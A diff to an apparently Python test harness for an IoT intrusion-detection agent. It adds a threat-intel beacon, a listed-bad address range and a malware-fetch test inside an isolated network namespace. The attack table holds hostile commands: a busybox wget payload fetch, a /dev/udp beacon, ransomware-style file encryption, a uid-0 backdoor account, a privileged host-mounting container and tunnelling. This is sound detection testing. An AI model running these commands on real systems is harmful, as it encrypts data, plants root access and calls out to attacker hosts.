@@ -46,6 +46,7 @@ TWIN = (
     "CollectorsCore_PriorityIntervals=0.05,0.1,0.2",  # 3, 6 and 12 s
     "FileSystem_Paths=/home/watched",
     "FileSystem_MessageFrequency=High",
+    "NetworkActivity_Devices=eth0",
     "Peripheral_MessageFrequency=High",
     "Peripheral_VirtualInterfaces=true",
     "Process_CacheSize=10000",  # whatever else the machine runs is seen, too
@@ -58,6 +59,10 @@ STUBS = (
     *("ufw", "xmrig"),
 )
 """Programs that do nothing here, whatever they are told."""
+
+BEACON = "192.0.2.129"
+LISTED = ("127.0.0.66", "192.0.2.128/25")
+"""What the hub is told to be bad, while it runs."""
 
 ATTACKS = {
     "IoT_AccessingHtaccessFile": "cp /etc/hostname /home/www/.htaccess",
@@ -81,6 +86,7 @@ ATTACKS = {
     "IoT_LinuxReconnaissance": "busybox find / -maxdepth 1 -perm -4000",
     "IoT_OverridingCommonFiles": "cp /usr/bin/true /usr/local/bin/ps",
     "IoT_PortForwarding": "chisel client 127.0.0.1:443 R:socks",
+    "IoT_PossibleMalware": "busybox wget -q -O /dev/null http://127.0.0.66:81/mips",
     "IoT_PrivilegedContainer": "docker run --rm --privileged -v /:/host alpine",
     "IoT_Ransomware": (
         "find /home/victim -type f -exec openssl enc -aes-256-cbc -pbkdf2 -pass pass:x -in {} -out {}.enc ';'"
@@ -90,6 +96,7 @@ ATTACKS = {
     "IoT_SuspiciousCompilation": f"gcc -o /dev/shm/{MARK} /home/dirtycow.c; rm -f /dev/shm/{MARK}",
     "IoT_SuspiciousNohup": f"nohup /tmp/{MARK} again",
     "IoT_SuspiciousUseradd": "useradd -o -u 0 -g 0 -M -d /root support",
+    "IoT_TiConnection": f"echo beacon > /dev/udp/{BEACON}/9",
     "IoT_UserAddedToGroup": "usermod -aG daemon carol",
     "IoT_UserRemovedFromGroup": "gpasswd -d carol daemon",
     "IoT_UserDeleted": "userdel mallory",
@@ -107,13 +114,21 @@ ELSEWHERE = (
 
 @contextmanager
 def private_network() -> Iterator[None]:
-    """This thread, and what it starts, in a network of their own."""
+    """This thread, and what it starts, in a network of their own: with an eth0 that leads to nobody."""
     libc = ctypes.CDLL(None, use_errno=True)
     home = os.open("/proc/thread-self/ns/net", os.O_RDONLY)
     if libc.unshare(CLONE_NEWNET):
         pytest.skip(f"no network namespace: {os.strerror(ctypes.get_errno())}")
     try:
-        subprocess.run(["ip", "link", "set", "lo", "up"], check=True)
+        for change in (
+            "link set lo up",
+            "link add eth0 type veth peer name other",
+            "addr add 192.0.2.2/24 dev eth0",
+            "link set eth0 up",
+            "link set other up",
+            f"neigh add {BEACON} lladdr 02:00:00:00:00:01 dev eth0",
+        ):
+            subprocess.run(["ip", *change.split()], check=True)
         yield
     finally:
         assert libc.setns(home, CLONE_NEWNET) == 0
@@ -161,6 +176,9 @@ class Device:
 
         self._until(reported, "the settings in force")
         self._until(self._seen, "a command that the agent has seen under them")
+        listed = self.state / "listed.txt"
+        listed.write_text("\n".join(LISTED))
+        assert self.vedette("intel", "import", str(listed))
 
     def _seen(self) -> bool:
         self.type(f"/usr/bin/env true {MARK}")
